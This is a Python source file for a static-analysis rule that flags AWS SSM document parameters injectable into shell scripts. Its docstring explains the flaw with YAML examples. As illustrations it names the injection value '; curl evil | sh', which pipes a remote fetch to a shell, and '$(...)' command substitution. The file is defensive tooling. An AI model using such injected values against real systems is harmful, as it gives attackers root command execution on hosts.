"""
## What it does
Reports a text parameter that is written into a shell script and lets a value through that makes
the shell run something else.

## Why is this bad?
The agent puts the value in the place of `{{ parameter }}` before any shell sees the script, and
quotes nothing: with `; curl evil | sh` or `$(...)` as its value, that runs, as root, on every
instance. Whoever may only run this one document then owns the host. Double quotes do not help
against `$(...)`, and single quotes are left with a single quote in the value. Only
`allowedValues`, or an `allowedPattern` that is anchored with `^` and `$` and allows harmless
characters only, keep such values out.

One finding for each parameter of a script, at the first place of the most open kind. A parameter
that is the command (alone on its line, or the argument of `eval` or `bash -c`) is meant to run.

## Example
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f "{{ target }}"  # <-
```
Use instead:
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
    allowedPattern: ^/[A-Za-z0-9/_-]+$
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f "{{ target }}"
```

A pattern must be anchored, and must not let a dot match anything:
```yaml document
schemaVersion: '2.2'
parameters:
  target:
    type: String
    allowedPattern: '/[A-Za-z0-9/_-]+'
mainSteps:
  - action: aws:runShellScript
    name: freeze
    inputs:
      runCommand:
        - fsfreeze -f {{ target }}  # <-
```

## References
- [amazon-ssm-agent, `docparser/parameters/parameters.go`](https://github.com/aws/amazon-ssm-agent/blob/mainline/agent/framework/docparser/parameters/parameters.go): values are put in as they are
- [Data elements and parameters](https://docs.aws.amazon.com/systems-manager/latest/userguide/documents-syntax-data-elements-parameters.html): `interpolationType: ENV_VAR` hands a value over as an environment variable instead
"""

from __future__ import annotations

from collections.abc import Iterator

from ssmlint.rule import Note, Problem, Severity, rule
from ssmlint.shell.scriptfacts import ShellScript
from ssmlint.shell.syntax import Quoting
from ssmlint_rules.injection import Use, breaks_out, is_the_command, parameter_uses

_HOW = {
    Quoting.BARE: "unquoted",
    Quoting.ARITHMETIC: "in an arithmetic expression",
    Quoting.HEREDOC: "in a here-document",
    Quoting.DOUBLE: "in double quotes, which do not stop it",
    Quoting.SINGLE: "in single quotes, which it can close",
}


@rule(
    "SH301",
    "injectable-parameter",
    Severity.WARNING,
    on=ShellScript,
    covers=("shellcheck/SC2086", "shellcheck/SC2206"),
)
def injectable_parameter(script: ShellScript) -> Iterator[Problem]:
    """Report each parameter that can carry a command."""
    by_name: dict[str, list[Use]] = {}
    for use in parameter_uses(script):
        if use.quoting in _HOW and not is_the_command(script, use):
            by_name.setdefault(use.parameter.name, []).append(use)
    for uses in by_name.values():
        worst = sorted(uses, key=lambda use: list(_HOW).index(use.quoting))
        for use in worst:
            value = breaks_out(use)
            if value is not None:
                yield _problem(script, use, value)
                break


def _problem(script: ShellScript, use: Use, value: str) -> Problem:
    shown = value.replace("\n", "\\n")
    parameter = use.parameter
    why = "nothing restricts it"
    if parameter.allowed_pattern is not None and parameter.allowed_pattern.text:
        why = "its `allowedPattern` does not keep that out"
    node = parameter.field("allowedPattern") or parameter.key
    return Problem(
        script.place(use.span),
        f"a value such as `{shown}` of `{parameter.name}` is run as a command here: it stands"
        f" {_HOW[use.quoting]}, and {why}",
        related=(Note(node.span, f"`{parameter.name}` is declared here"),),
    )
